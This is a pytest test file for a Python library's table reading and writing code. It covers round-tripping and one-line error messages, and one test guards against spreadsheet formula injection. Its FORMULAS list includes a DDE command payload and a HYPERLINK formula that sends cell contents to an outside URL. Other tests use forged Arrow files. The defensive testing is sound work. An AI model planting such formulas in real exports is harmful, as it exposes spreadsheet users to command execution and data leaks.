"""Tables in files: what they hold comes back, as the training table had it, and what is wrong is said in one line."""

from __future__ import annotations

import gzip
import io
import json
import os
import sys
import tempfile
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nicecf.benchmark.datasets import loan_book
from nicecf.exceptions import FileError, OptionError
from nicecf.tables import files as tablefiles
from nicecf.tables.files import like, read, read_cells, write
from nicecf.tables.schema import Schema

ENDINGS = [
    *(
        ".csv",
        ".tsv",
        ".csv.gz",
        ".tsv.gz",
        ".jsonl",
        ".ndjson",
        ".jsonl.gz",
        ".parquet",
        ".arrow",
        ".feather",
        ".xlsx",
    ),
]


def stored(folder: Path, content: str | bytes, name: str = "a.csv") -> Path:
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def refusal(act: Any) -> str:
    with pytest.raises(FileError) as error:
        act()
    message = str(error.value)
    assert "\n" not in message
    return message


@dataclass(frozen=True)
class Stream:
    """Standard input or output, as far as tables need it."""

    buffer: io.BytesIO

    def flush(self) -> None:
        pass


@pytest.mark.parametrize("ending", ENDINGS)
def test_a_table_comes_back_from_every_kind_of_file(tmp_path, ending):
    frame = pd.DataFrame(
        {
            "whole": [1, 2, 3],
            "third": [1 / 3, np.nan, -2e-300],
            "word": ['a "quoted", word', "línea\nnueva", "\u2028"],
            "is_on": [True, False, True],
        }
    )
    path = tmp_path / f"table{ending}"
    write(frame, path)
    pd.testing.assert_frame_equal(read(path), frame, check_exact=True, check_dtype=True)
    assert [one.name for one in tmp_path.iterdir()] == [path.name]


@pytest.mark.parametrize("format", tablefiles.FORMATS)
def test_a_table_goes_through_standard_input_and_output(monkeypatch, format):
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", None]})
    out = Stream(io.BytesIO())
    monkeypatch.setattr(sys, "stdout", out)
    write(frame, "-", format=format)
    monkeypatch.setattr(sys, "stdin", Stream(io.BytesIO(out.buffer.getvalue())))
    back = read("-", format=format)
    assert back["a"].tolist() == [1, 2]
    assert back["b"].isna().tolist() == [False, True]


def test_standard_input_is_csv_unless_told_otherwise(monkeypatch):
    monkeypatch.setattr(sys, "stdin", Stream(io.BytesIO(b"a,b\n1,x\n")))
    assert read("-").to_dict("list") == {"a": [1], "b": ["x"]}


def test_the_same_number_is_the_same_in_every_kind_of_file(tmp_path):
    # The default parser of pandas is off in the last digit for some: that would look like a change.
    frame = pd.DataFrame({"x": np.random.default_rng(0).normal(size=2_000) * 10.0 ** np.arange(-100, 100).repeat(10)})
    for ending in ENDINGS:
        write(frame, tmp_path / f"t{ending}")
        assert read(tmp_path / f"t{ending}")["x"].tolist() == frame["x"].tolist()
        rows = like(read_cells(tmp_path / f"t{ending}"), Schema.of(frame)[0].columns)
        assert rows["x"].tolist() == frame["x"].tolist()


def test_a_column_of_codes_is_text_if_it_is_named(tmp_path):
    path = stored(tmp_path, "zip,n\n01234,1\n20000,2\n")
    assert read(path)["zip"].tolist() == [1234, 20000]
    assert read(path, text=["zip"])["zip"].tolist() == ["01234", "20000"]
    with pytest.raises(OptionError, match="text names 'zap', but .* has the columns 'zip', 'n'. Did you mean 'zip'?"):
        read(path, text=["zap"])
    write(pd.DataFrame({"zip": [1234]}), tmp_path / "a.parquet")
    with pytest.raises(OptionError, match="knows its own types, and has numbers there"):
        read(tmp_path / "a.parquet", text=["zip"])


def test_a_byte_order_mark_and_line_ends_of_windows_do_no_harm(tmp_path):
    path = stored(tmp_path, b"\xef\xbb\xbfa,b\r\n1,x\r\n\r\n2,y\r\n")
    assert read(path).to_dict("list") == {"a": [1, 2], "b": ["x", "y"]}
    path = stored(tmp_path, b'\xef\xbb\xbf{"a": 1}\r\n\r\n{"a": 2}\r\n', "a.jsonl")
    assert read(path).to_dict("list") == {"a": [1, 2]}


def test_decimals_and_labels_of_rows_in_parquet(tmp_path):
    from decimal import Decimal

    frame = pd.DataFrame({"price": [Decimal("1.10"), None]}, index=pd.Index(["p1", "p2"], name="person"))
    frame.to_parquet(tmp_path / "a.parquet")
    table = read_cells(tmp_path / "a.parquet").frame
    assert table["price"].dtype == np.float64
    assert table.index.tolist() == ["p1", "p2"]


def test_an_arrow_stream_is_read_too(tmp_path):
    import pyarrow as pa

    table = pa.table({"a": [1, 2]})
    sink = io.BytesIO()
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    assert read(stored(tmp_path, sink.getvalue(), "a.arrow"))["a"].tolist() == [1, 2]


def test_a_column_of_mixed_values_is_written_as_text_where_there_is_no_other_way(tmp_path):
    write(pd.DataFrame({"a": pd.Series([1, "x", None], dtype=object)}), tmp_path / "a.parquet")
    back = read(tmp_path / "a.parquet")["a"]
    assert back.tolist()[:2] == ["1", "x"]
    assert pd.isna(back[2])


def test_without_pyarrow_the_message_says_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(ImportError, match=r"reading .*a.parquet needs pyarrow.*pip install 'nicecf\[files\]'"):
        read(stored(tmp_path, b"PAR1", "a.parquet"))
    with pytest.raises(ImportError, match=r"writing .*a.arrow needs pyarrow"):
        write(pd.DataFrame({"a": [1]}), tmp_path / "a.arrow")
    with pytest.raises(ImportError, match=r"pip install 'nicecf\[files\]'"):
        tablefiles.check_format("out.parquet")
    tablefiles.check_format("out.csv")


BROKEN = {
    "empty": ("a.csv", "", "is empty; it needs a header"),
    "blank": ("a.csv", "\n\n", "is empty; it needs a header"),
    "empty gzip": ("a.csv.gz", gzip.compress(b""), "is empty; it needs a header"),
    "empty lines": ("a.jsonl", "", "is empty; it needs an object in each line"),
    "no header": ("a.csv", "1.5,2\n1.6,3\n", "has no header: its first line holds numbers ('1.5', '2')"),
    "nameless": ("a.csv", ",b\n0,1\n", "has no name over column 1. If that is a saved index"),
    "repeated": ("a.csv", "a,b,a\n1,2,3\n", "has several columns called 'a'"),
    "short line": ("a.csv", 'a,b\n"1\n2",2\n3\n', "line 4, has 1 cell, but the header has 2"),
    "long line": (
        "a.csv",
        "a,b\n1,2\n1,2,3\n",
        "line 3, has 3 cells, but the header has 2. Put text that holds commas",
    ),
    "open quote": ("a.csv", 'a,b\n1,"2\n' + "3,4\n" * 40_000, "Is a closing quote missing?"),
    "short line with semicolons": ("a.csv", "a;b\n1;2\n3\n", "line 3, has 1 cell (with semicolons between them)"),
    "commas": ("a.tsv", "a,b\n1,2\n", "only one column with tabs between fields, and its header holds commas"),
    "latin1": ("a.jsonl", '{"a": "\xe9"}\n'.encode("latin1"), "line 1, is not UTF-8: byte 7 is 0xe9"),
    "utf16": ("a.jsonl", '{"a": 1}\n'.encode("utf-16"), "is text in UTF-16; save it as UTF-8"),
    "junk": ("a.csv", b"a,b\n\x00\x01\x02", "line 2, holds a zero byte"),
    "parquet called csv": ("a.csv", b"PAR1\x00\xff", "is a Parquet file; call it .parquet"),
    "excel called csv": ("a.csv", b"PK\x03\x04\xff", "is a zip archive, such as those of Excel"),
    "no gzip": ("a.csv.gz", b"a,b\n1,2\n", "is not a complete gzip file (Not a gzipped file"),
    "cut gzip": ("a.csv.gz", gzip.compress(b"a,b\n1,2\n" * 99)[:-9], "is not a complete gzip file"),
    "no parquet": ("a.parquet", b"junk" * 9, "cannot be read as Parquet ("),
    "no arrow": ("a.arrow", b"ARROW1junk", "cannot be read as Arrow"),
    "no arrow either": ("a.feather", b"junk" * 9, "cannot be read as Arrow"),
    "not json": ("a.jsonl", '{"a": 1}\n{"a": }\n', "line 2, is not JSON (Expecting value"),
    "no object": ("a.jsonl", "[1, 2]\n", "line 1, does not hold an object"),
    "nested": ("a.jsonl", '{"a": {"b": 1}}\n', "line 1, holds an object in 'a'"),
    "deeply nested": ("a.jsonl", '{"a": ' + "[" * 100_000, "line 1, is nested too deeply"),
    "a list": ("a.jsonl", '{"a": [1]}\n', "line 1, holds a list in 'a'"),
    "twice": ("a.jsonl", '{"a": 1, "a": 2}\n', "line 1, holds 'a' twice"),
    "two kinds": (
        "a.jsonl",
        '{"a": 1}\n\n{"a": "1"}\n',
        "line 3, holds text in 'a' ('1'), but a line above holds a number",
    ),
    "half a character": ("a.jsonl", '{"a": "\\ud800"}\n', "line 1, holds half a character in 'a'"),
    "half a character in a name": ("a.jsonl", '{"\\udfff": 1}\n', "line 1, holds half a character in"),
    "no fields": ("a.jsonl", "{}\n", "has no columns"),
    "json": ("a.json", "[]", "Write JSON with one object in each line, and call it .jsonl"),
    "old excel": ("a.xls", b"\xd0\xcf\x11\xe0", "Save it as .xlsx"),
    "excel with macros": ("a.xlsm", b"PK", "Save it as .xlsx, without macros"),
    "explainer": ("a.nice", b"PK", "That is an explainer, not a table"),
    "other": ("a.dat", b"x", "its name must end in .csv, .tsv"),
    "zipped parquet": ("a.parquet.gz", b"x", "its name must end in"),
}


@pytest.mark.parametrize("case", BROKEN)
def test_what_is_no_table_is_said_in_one_line(tmp_path, case):
    name, content, expected = BROKEN[case]
    path = stored(tmp_path, content, name)
    for act in (read, read_cells):
        message = refusal(lambda act=act: act(path))
        assert message.startswith(str(path))
        assert expected in message


@pytest.mark.parametrize("ending", [".csv", ".tsv.gz", ".parquet", ".arrow"])
def test_rows_to_explain_may_be_none_and_those_to_learn_from_may_not(tmp_path, training, ending):
    path = tmp_path / f"t{ending}"
    write(training[:0], path)
    assert refusal(lambda: read(path)) == f"{path} has no rows below its header."
    rows = rows_like(training, path)
    assert rows.dtypes.tolist() == training.dtypes.tolist()
    assert len(rows) == 0
    assert list(rows.columns) == list(training.columns)
    labelled = like(read_cells(path), Schema.of(training.drop(columns="zip"))[0].columns, id="zip")
    assert labelled.index.name == "zip"
    assert len(labelled) == 0


def test_standard_input_and_output_that_are_closed_are_said(monkeypatch):
    monkeypatch.setattr(sys, "stdin", None)
    monkeypatch.setattr(sys, "stdout", None)
    assert "standard input is closed; give the path of a file" in refusal(lambda: read("-"))
    assert "standard output is closed; give the path of a file" in refusal(lambda: write(pd.DataFrame({"a": [1]}), "-"))


def test_a_file_that_is_not_there_or_is_a_folder(tmp_path):
    stored(tmp_path, "a\n1\n", "train.csv")
    assert refusal(lambda: read(tmp_path / "trains.csv")) == (
        f"there is no file {tmp_path / 'trains.csv'}. Did you mean 'train.csv'?"
    )
    (tmp_path / "b.csv").mkdir()
    assert "is a folder" in refusal(lambda: read(tmp_path / "b.csv"))
    assert "there is no folder" in refusal(lambda: write(pd.DataFrame({"a": [1]}), tmp_path / "no" / "a.csv"))
    with pytest.raises(OptionError, match="format='xls' is not known; choose one of 'csv', 'tsv'"):
        read(tmp_path / "train.csv", format="xls")  # type: ignore[arg-type]


def test_a_format_wins_over_the_name_of_the_file(tmp_path):
    assert read(stored(tmp_path, "a\tb\n1\t2\n", "export.txt"), format="tsv").shape == (1, 2)


@pytest.fixture
def training() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "zip": pd.Series(["01234", "20000", "NA"], dtype=object),
            "age": [30, 40, 50],
            "income": [1.5, 2.0, np.nan],
            "late": pd.array([1, None, 3], dtype="Int64"),
            "is_customer": [True, False, True],
            "region": pd.Categorical(["North", "South", "North"], ordered=True),
            "single": np.array([0.1, 0.2, 0.3], dtype=np.float32),
            "word": pd.array(["a", "b", "c"], dtype="string"),
            "gap": pd.Series(["x", None, "y"], dtype=object),
            "grade": [1, 2, 3],
        }
    )


def rows_like(training: pd.DataFrame, path: Path, **options: Any) -> pd.DataFrame:
    declared = ["zip", "is_customer", "region", "word", "gap", "grade"]
    return like(read_cells(path), Schema.of(training, declared)[0].columns, **options)


def changed(training: pd.DataFrame, **cells: str) -> str:
    """A CSV of one row, all cells as text."""
    plain = {"zip": "01234", "age": "33", "income": "7", "late": "1", "is_customer": "true", "region": "South"}
    plain |= {"single": "0.1", "word": "a", "gap": "x", "grade": "2"} | cells
    assert list(plain) == list(training)
    return f"{','.join(plain)}\n{','.join(plain.values())}\n"


def test_cells_get_the_types_that_the_training_table_had(tmp_path, training):
    rows = rows_like(training, stored(tmp_path, changed(training)))
    assert rows.iloc[0].tolist() == ["01234", 33, 7.0, 1, True, "South", np.float32(0.1), "a", "x", 2]
    assert rows.dtypes.equals(training.dtypes)


@pytest.mark.parametrize("ending", ENDINGS)
def test_the_training_table_itself_is_the_same_rows_from_every_kind_of_file(tmp_path, ending):
    X, _ = loan_book(300, seed=1)
    schema, values = Schema.of(X)
    write(X, tmp_path / f"new{ending}")
    rows = like(read_cells(tmp_path / f"new{ending}"), schema.columns)
    assert rows.dtypes.equals(X.dtypes)
    np.testing.assert_array_equal(schema.encode(rows)[0], values)


def test_an_empty_cell_is_missing_whatever_the_column(tmp_path, training):
    empty = dict.fromkeys(training, "")
    rows = rows_like(training, stored(tmp_path, changed(training, **empty)))
    assert rows.isna().all(axis=None)
    assert rows["age"].dtype == "Int64"
    assert rows["gap"][0] is None


def test_words_for_missing_are_missing_unless_training_had_such_a_category(tmp_path, training):
    rows = rows_like(training, stored(tmp_path, changed(training, zip="NA", income="NaN", word="n/a", gap="null")))
    assert rows["zip"][0] == "NA"
    assert rows[["income", "word", "gap"]].isna().all(axis=None)


def test_whole_numbers_where_training_had_others_and_the_reverse(tmp_path, training):
    rows = rows_like(training, stored(tmp_path, changed(training, age="33.5", income="7", grade="9")))
    assert (rows["age"][0], rows["income"][0], rows["grade"][0]) == (33.5, 7.0, 9)
    assert rows["income"].dtype == np.float64


@pytest.mark.parametrize(
    ("word", "value"), [("true", True), ("True", True), ("1", True), ("FALSE", False), ("0", False)]
)
def test_booleans_are_written_in_several_ways(tmp_path, training, word, value):
    assert rows_like(training, stored(tmp_path, changed(training, is_customer=word)))["is_customer"].tolist() == [value]


def test_a_category_that_training_never_saw_is_kept(tmp_path, training):
    rows = rows_like(training, stored(tmp_path, changed(training, zip="00007", gap="y")))
    assert (rows["zip"][0], rows["gap"][0]) == ("00007", "y")
    Schema.of(training, ["zip", "is_customer", "region", "word", "gap", "grade"])[0].encode(rows)


def test_large_whole_numbers_that_are_categories_stay_exact(tmp_path):
    training = pd.DataFrame({"card": [2**53 + 1, 2**53 + 3]})
    path = stored(tmp_path, f"card\n{2**53 + 3}\n")
    assert like(read_cells(path), Schema.of(training, ["card"])[0].columns)["card"].tolist() == [2**53 + 3]


UNFIT = {
    "age": ("12k", "column 'age' holds '12k', which is not a number; correct it"),
    "income": ("1_000", "column 'income' holds '1_000', which is not a number"),
    "single": ("inf", "column 'single' holds 'inf', which is not a number"),
    "late": ("1e999", "column 'late' holds an infinite value"),
    "is_customer": ("perhaps", "column 'is_customer' holds 'perhaps', but is true or false"),
    "grade": ("best", "column 'grade' holds 'best', which is not a number"),
    "region": (
        "West",
        "column 'region' holds 'West', which is not one of its levels, from low to high 'North', 'South'",
    ),
}


@pytest.mark.parametrize("column", UNFIT)
def test_a_cell_that_cannot_be_is_named_with_its_line(tmp_path, training, column):
    word, expected = UNFIT[column]
    good, bad = changed(training, gap='"two\nlines"'), changed(training, **{column: word})
    path = stored(tmp_path, good + "\n" + bad.split("\n")[1] + "\n")
    assert f"{path}, line 5: {expected}" in refusal(lambda: rows_like(training, path))


def test_numbers_with_commas_get_a_hint(tmp_path, training):
    path = stored(tmp_path, changed(training, income='"12,50"'))
    assert "with a decimal point, or say that the file has decimal commas (--decimal ,)" in refusal(
        lambda: rows_like(training, path)
    )
    path = stored(tmp_path, '{"income": "1,234,567.5"}\n', "a.jsonl")
    columns = Schema.of(training[["income"]])[0].columns
    assert "without commas for thousands" in refusal(lambda: like(read_cells(path), columns))


def test_types_of_json_are_checked_against_those_of_training(tmp_path):
    training = pd.DataFrame({"zip": ["01234", "2"], "age": [1.0, 2.0], "on": [True, False]})
    columns = Schema.of(training)[0].columns

    def rows(**cells: Any) -> pd.DataFrame:
        line = json.dumps({"zip": "01234", "age": 1, "on": True} | cells)
        return like(read_cells(stored(tmp_path, line, "a.jsonl")), columns)

    assert rows(age="17", on=0, zip=None).iloc[0].tolist()[1:] == [17.0, False]
    assert rows(zip="").iloc[0, 0] == ""
    assert "line 1: column 'zip' holds the number 1234, but held text" in refusal(lambda: rows(zip=1234))
    assert "column 'age' holds an infinite value" in refusal(lambda: rows(age=float("inf")))
    assert "column 'age' holds 'old', which is not a number" in refusal(lambda: rows(age="old"))


def test_cells_that_no_table_can_hold_are_named(tmp_path):
    columns = Schema.of(pd.DataFrame({"n": [0.5, 1.0], "code": [1, 2]}), ["code"])[0].columns
    for name in ("n", "code"):
        for number in (10**400, -(10**400)):
            path = stored(tmp_path, json.dumps({"n": 1, "code": 1} | {name: number}), "a.jsonl")
            for read_it in (read, read_cells):
                assert f"line 1, holds a number of 401 digits in '{name}'; write it shorter" in refusal(
                    lambda path=path, read_it=read_it: read_it(path)
                )
    largest = int(sys.float_info.max)
    assert read(stored(tmp_path, json.dumps({"n": largest}), "a.jsonl"))["n"].tolist() == [largest]
    assert "309 digits" in refusal(lambda: read(stored(tmp_path, json.dumps({"n": largest + 1}), "a.jsonl")))
    frame = pd.DataFrame({"n": [[1.0], [2.0]], "code": [1, 2]})
    frame.to_parquet(tmp_path / "a.parquet")
    assert "row 0: column 'n' holds a ndarray; a cell is a number, text" in refusal(
        lambda: like(read_cells(tmp_path / "a.parquet"), columns)
    )


def test_columns_that_differ_from_those_of_training_are_named(tmp_path, training):
    table = changed(training)
    path = stored(tmp_path, table.replace("income", "incme"))
    assert "has no column 'income', which the explainer needs" in (
        message := refusal(lambda: rows_like(training, path))
    )
    assert "Is it 'incme'?" in message
    assert ", but 'incme', which fit did not see" in message
    path = stored(tmp_path, "\n".join(line.rpartition(",")[0] for line in table.split("\n")))
    last = list(training)[-1]
    assert f"has no column {last!r}, which the explainer needs; its columns are" in refusal(
        lambda: rows_like(training, path)
    )
    more = "\n".join(f"{line},{cell}" for line, cell in zip(table.split("\n"), ["person", "7"], strict=False))
    path = stored(tmp_path, more)
    message = refusal(lambda: rows_like(training, path))
    assert "has the column 'person', which fit did not see" in message
    assert "--ignore person" in message
    assert "--id person" in message
    assert list(rows_like(training, path, ignore=["person"])) == list(training)
    assert rows_like(training, path, id="person").index.tolist() == ["7"]
    assert "no column 'persn', which id names" in refusal(lambda: rows_like(training, path, id="persn"))
    assert "no column 'x', which ignore names" in refusal(lambda: rows_like(training, path, ignore=["x"]))
    assert "ignore names 'age', which the explainer needs" in refusal(
        lambda: rows_like(training, path, ignore=["age"], id="person")
    )


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "-unknown",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x0b\u200b=1+1",
    "\uff1d1+1",
    "\tplain",
    "\rplain",
    "1\r2",
]
WITH_APOSTROPHES = ["'=1+1", "''@x", "'\t", "' -x", "'tis", "'", "''"]
HARMLESS = ["", "-", "plain", "a=b", "-1.5", "+3e-7", "-.5", "rock 'n' roll", "<=50K", "(-1)", "\u22121", "1+1"]


@pytest.mark.parametrize("ending", [".csv", ".tsv", ".csv.gz"])
def test_no_cell_is_a_formula_to_a_spreadsheet_and_all_come_back(tmp_path, ending):
    words = [*FORMULAS, *WITH_APOSTROPHES, *HARMLESS]
    kinds = {"=name": "object", "'=name": "category", "text": "str"}
    frame = pd.DataFrame({name: pd.Series(words, dtype=kind) for name, kind in kinds.items()})
    frame["n"] = -np.arange(len(words), dtype=float)
    write(frame, tmp_path / f"t{ending}")
    cells = read_cells(tmp_path / f"t{ending}")
    assert list(cells.frame.columns) == ["'=name", "''=name", "text", "n"]
    assert cells.frame["text"].tolist() == [
        *("'" + word if word != "1\r2" else word for word in FORMULAS),
        *("'" + word for word in WITH_APOSTROPHES[:4]),
        *WITH_APOSTROPHES[4:],
        *HARMLESS,
    ]
    assert cells.frame["n"].astype(float).tolist() == frame["n"].tolist()
    back = tablefiles.without_apostrophes(cells).frame
    assert list(back.columns) == [*kinds, "n"]
    for name in kinds:
        assert back[name].tolist() == words


@given(st.lists(st.text(st.sampled_from(" '=+-@\t\r\n1.ae\uff1d\u200b\"," + "\x85\u2028")), min_size=1))
def test_any_text_comes_back_from_protected_csv(words):
    with tempfile.TemporaryDirectory() as folder:
        for protect in (True, False):
            write(pd.DataFrame({"a": words, "b": "x"}), f"{folder}/t.csv", protect=protect)
            cells = read_cells(f"{folder}/t.csv")
            back = tablefiles.without_apostrophes(cells) if protect else cells
            assert back.frame["a"].tolist() == words


def test_formulas_are_left_as_they_are_where_that_is_asked_for_or_the_file_has_types(tmp_path):
    frame = pd.DataFrame({"=name": FORMULAS})
    write(frame, tmp_path / "t.csv", protect=False)
    assert read_cells(tmp_path / "t.csv").frame.equals(frame)
    for ending in ("jsonl", "parquet", "arrow"):
        write(frame, tmp_path / f"t.{ending}")
        table = tablefiles.without_apostrophes(read_cells(tmp_path / f"t.{ending}"))
        assert table.frame["=name"].tolist() == FORMULAS


def test_tables_of_others_are_read_as_they_are(tmp_path):
    path = stored(tmp_path, "'=a,b\n'=x,'-y\n")
    for frame in (read(path), read_cells(path).frame):
        assert list(frame.columns) == ["'=a", "b"]
        assert frame.iloc[0].tolist() == ["'=x", "'-y"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pipes with names are of POSIX systems")
def test_a_pipe_with_a_name_is_read_once(tmp_path):
    os.mkfifo(tmp_path / "p.csv")
    # Whoever writes into it waits until it is opened, and is cut off when it is closed.
    writer = threading.Thread(target=(tmp_path / "p.csv").write_text, args=("a\n1\n",), daemon=True)
    writer.start()
    assert read(tmp_path / "p.csv")["a"].tolist() == [1]
    writer.join(timeout=5)


def test_a_row_without_a_label_is_named(tmp_path):
    columns = Schema.of(pd.DataFrame({"a": [1, 2]}))[0].columns
    path = stored(tmp_path, "id,a\nx,1\n,2\n")
    assert "line 3: column 'id', the label of the row, is empty" in refusal(
        lambda: like(read_cells(path), columns, id="id")
    )


def test_a_feature_may_be_the_label_of_rows_too(tmp_path):
    columns = Schema.of(pd.DataFrame({"a": [1, 2]}))[0].columns
    rows = like(read_cells(stored(tmp_path, "a\n5\n6\n")), columns, id="a")
    assert rows["a"].tolist() == [5, 6]
    assert rows.index.tolist() == ["5", "6"]


def test_a_whole_number_that_a_float_cannot_hold_is_refused(tmp_path):
    path = tmp_path / "large.csv"
    path.write_text("n\n9007199254740993\n")
    schema, _ = Schema.of(pd.DataFrame({"n": [0, 1]}))
    with pytest.raises(FileError, match="line 2: column 'n' holds 9007199254740993, an integer that a float cannot"):
        tablefiles.like(tablefiles.read_cells(path), schema.columns)


class Celsius(pa.ExtensionType):
    """A type that somebody else defined, whose code would run when a file names it."""

    def __init__(self):
        super().__init__(pa.float64(), "test.celsius")

    def __arrow_ext_serialize__(self):
        return b""

    @classmethod
    def __arrow_ext_deserialize__(cls, storage_type, serialized):
        return cls()


@pytest.fixture
def celsius():
    pa.register_extension_type(Celsius())
    yield Celsius()
    pa.unregister_extension_type("test.celsius")


def in_file(table, kind):
    sink = io.BytesIO()
    if kind == "parquet":
        pq.write_table(table, sink)
        return sink.getvalue()
    new = pa.ipc.new_file if kind == "arrow" else pa.ipc.new_stream
    with new(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue()


def nested_in(kind, cells):
    if kind == "list":
        return pa.ListArray.from_arrays(pa.array([0, 1, 2], pa.int32()), cells)
    if kind == "struct":
        return pa.StructArray.from_arrays([cells], ["inner"])
    if kind == "map":
        return pa.MapArray.from_arrays(pa.array([0, 1, 2], pa.int32()), pa.array(["a", "b"]), cells)
    if kind == "list in a struct":
        return nested_in("struct", nested_in("list", cells))
    return cells


@pytest.mark.parametrize("kind", ["parquet", "arrow", "stream"])
@pytest.mark.parametrize("nested", ["", "list", "struct", "map", "list in a struct"])
@pytest.mark.parametrize("is_known", [True, False])
def test_types_that_others_define_are_not_read(tmp_path, celsius, kind, nested, is_known):
    cells = nested_in(nested, pa.ExtensionArray.from_storage(celsius, pa.array([1.0, 2.0])))
    content = in_file(pa.table({"n": [1, 2], "heat": cells}), kind)
    if not is_known:
        pa.unregister_extension_type("test.celsius")
    try:
        message = refusal(lambda: read(stored(tmp_path, content, f"a.{'parquet' if kind == 'parquet' else 'arrow'}")))
    finally:
        if not is_known:
            pa.register_extension_type(Celsius())
    assert "a." in message
    assert "column 'heat' is of the extension type 'test.celsius'" in message
    assert "Convert it" in message


def test_periods_and_intervals_of_pandas_are_refused_with_advice(tmp_path):
    frame = pd.DataFrame({"n": [1, 2], "month": pd.period_range("2024-01", periods=2, freq="M")})
    frame.to_parquet(tmp_path / "a.parquet")
    message = refusal(lambda: read(tmp_path / "a.parquet"))
    assert "column 'month' is of the extension type 'pandas.period'" in message
    assert "Convert it to text or a number, as by table['month'].astype(str), and write the file again." in message
    frame["month"] = pd.interval_range(0, 2)
    frame.to_feather(tmp_path / "a.feather")
    assert "'pandas.interval'" in refusal(lambda: read(tmp_path / "a.feather"))
    frame["month"] = frame["month"].astype(str)
    frame.to_feather(tmp_path / "a.feather")
    assert read(tmp_path / "a.feather")["month"].tolist() == ["(0, 1]", "(1, 2]"]


def test_an_arrow_file_whose_texts_end_beyond_its_bytes_is_refused(tmp_path):
    """pyarrow reads what lies there, or crashes."""
    content = in_file(pa.table({"a": ["first", "second"]}), "arrow")
    ends = np.array([0, 5, 11], dtype=np.int32).tobytes()
    assert content.count(ends) == 1
    forged = content.replace(ends, np.array([0, 5, 2**31 - 1], dtype=np.int32).tobytes())
    assert "cannot be read as Arrow" in refusal(lambda: read(stored(tmp_path, forged, "a.arrow")))


@pytest.mark.parametrize(
    "said", [b"{", b"[]", b"{}", b'{"columns": 5}', b'{"columns": [{}], "index_columns": [{"kind": "range"}]}']
)
def test_what_a_file_says_of_pandas_in_vain_is_refused(tmp_path, said):
    table = pa.table({"a": [1, 2]}).replace_schema_metadata({b"pandas": said})
    path = stored(tmp_path, in_file(table, "arrow"), "a.arrow")
    assert "cannot be read as Arrow (" in refusal(lambda: read(path))
